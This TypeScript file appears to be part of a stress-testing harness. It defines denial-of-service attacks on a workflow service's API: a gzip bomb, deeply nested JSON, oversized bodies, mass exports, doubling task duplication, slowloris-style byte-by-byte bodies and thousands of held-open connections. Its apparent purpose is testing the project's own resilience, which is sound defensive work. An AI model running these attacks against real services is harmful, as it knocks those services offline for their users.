import { randomBytes, randomInt } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import type { Attacker, Shot } from './attacker.ts';
import { largeRun, largeTemplate, wideRows } from './large-records.ts';

/**
 * An attempt to exhaust the memory, the processor, the database or the connections of the service, with one ordinary
 * key.
 */
type Attack = (attacker: Attacker) => Promise<void>;

/** The attacks, in the order of a round. */
export const attacks: Readonly<Record<string, Attack>> = {
  'drafts that double': async (attacker) => {
    const { api } = attacker;
    const { id } = await api.templates.create({ name: 'Doubling' });
    const tasks = [{ title: 'Task', description: 'x'.repeat(1_990) }];
    await api.templates.draft.replace(id, { phases: [], variables: [], tasks });
    const path = `/templates/${id}/tasks/bulk-duplicate`;
    await repeatedly(attacker, 4, async () => {
      const draft = await api.templates.draft.get(id);
      return { method: 'POST', path, body: { taskIds: draft.tasks.map((task) => task.id) } };
    });
  },
  'large versions': async (attacker) => {
    const { api, send } = attacker;
    const id = await largeTemplate(attacker);
    for (let version = 0; version < 5; version += 1) {
      await api.templates.update(id, { description: `Version ${version}` });
      await send({ method: 'POST', path: `/templates/${id}/publish`, body: {} });
    }
    const { data } = await api.templates.versions.list(id);
    await repeatedly(attacker, 20, () => ({ path: `/templates/${id}/versions/${anyOf(data)?.id ?? ''}` }));
  },
  'large runs with all values': async (attacker) => {
    const id = await largeRun(attacker);
    await repeatedly(attacker, 30, () => ({ path: `/runs/${id}?include=fieldValues` }));
  },
  'the past and the explanation of large runs': async (attacker) => {
    const id = await largeRun(attacker);
    const at = encodeURIComponent(new Date().toISOString());
    const paths = [`/runs/${id}/explain`, `/runs/${id}?at=${at}&include=fieldValues`];
    await repeatedly(attacker, 20, () => ({ path: anyOf(paths) ?? '' }));
  },
  'PDFs of large runs': async (attacker) => {
    const id = await largeRun(attacker);
    await repeatedly(attacker, 40, () => ({ path: `/runs/${id}/export/pdf` }));
  },
  'pages of wide rows': async (attacker) => {
    const id = await wideRows(attacker);
    await repeatedly(attacker, 30, () => ({ path: `/data-sources/${id}/rows?limit=200&search=y` }));
  },
  'bulk requests of random text': async (attacker) => {
    const columns = [{ name: 'Text', type: 'TEXT' as const }];
    const source = await attacker.api.dataSources.create({ name: `Bulk ${randomBytes(4).toString('hex')}`, columns });
    const columnId = source.columns[0]?.id ?? '';
    const rows = Array.from({ length: 400 }, () => ({ cells: { [columnId]: randomBytes(4_900).toString('hex') } }));
    const path = `/data-sources/${source.id}/rows/bulk`;
    await repeatedly(attacker, 6, () => ({ method: 'POST', path, body: { rows } }));
  },
  'bodies that are large, deep, or compressed a thousandfold': async (attacker) => {
    const create = { method: 'POST', path: '/templates' } as const;
    const shots: Shot[] = [
      { ...create, body: Buffer.from('['.repeat(400_000) + ']'.repeat(400_000)) },
      { ...create, body: { name: 'x'.repeat(1_000_000) } },
      { ...create, body: gzipSync(Buffer.alloc(200_000_000, ' ')), headers: { 'content-encoding': 'gzip' } },
    ];
    await repeatedly(attacker, 40, () => anyOf(shots) ?? create);
  },
  'exports that nobody reads': async (attacker) => {
    const { data } = await attacker.api.templates.list();
    await repeatedly(attacker, 30, () => ({
      path: `/runs/export/csv?templateId=${anyOf(data)?.id ?? ''}`,
      isAbandoned: true,
    }));
  },
  'searches and counts': async (attacker) => {
    const others = ['/runs/counts', '/runs/tasks?limit=200', '/events?limit=200'];
    await repeatedly(attacker, 60, () => {
      const search = `/runs?search=${randomBytes(90).toString('hex')}&limit=200`;
      return { path: anyOf([search, ...others]) ?? search };
    });
  },
  'connections that send a byte': async (attacker) => {
    await connections(attacker, 1_000, (socket) => socket.write('P'));
  },
  'bodies that arrive byte by byte': async (attacker) => {
    const { apiKey } = attacker.job;
    await connections(attacker, 300, (socket) => {
      socket.write(
        `POST /templates HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${apiKey}\r\n` +
          'Content-Type: application/json\r\nContent-Length: 900000\r\n\r\n{',
      );
      const timer = setInterval(() => socket.write(' '), 1_000);
      socket.once('close', () => clearInterval(timer));
    });
  },
};

function anyOf<Item>(items: readonly Item[]): Item | undefined {
  return items[items.length === 0 ? 0 : randomInt(items.length)];
}

/** Sends several requests at once, again and again until the attack is over. */
async function repeatedly(
  { isOver, send }: Attacker,
  atATime: number,
  next: () => Shot | Promise<Shot>,
): Promise<void> {
  const one = async () => {
    while (!isOver()) await send(await next());
  };
  await Promise.all(Array.from({ length: atATime }, one));
}

/** Keeps connections open until the attack is over; `write` sends what each of them sends. */
async function connections(
  { job, isOver, closed }: Attacker,
  most: number,
  write: (socket: Socket) => void,
): Promise<void> {
  const { hostname, port } = new URL(job.baseUrl);
  const open = new Set<Socket>();
  while (!isOver()) {
    while (open.size < most) {
      const socket = connect({ host: hostname, port: Number(port), localAddress: '127.0.0.3' });
      open.add(socket);
      socket.on('error', () => {});
      socket.once('close', () => {
        closed();
        open.delete(socket);
      });
      write(socket);
    }
    await pause(200);
  }
  for (const socket of open) socket.destroy();
}
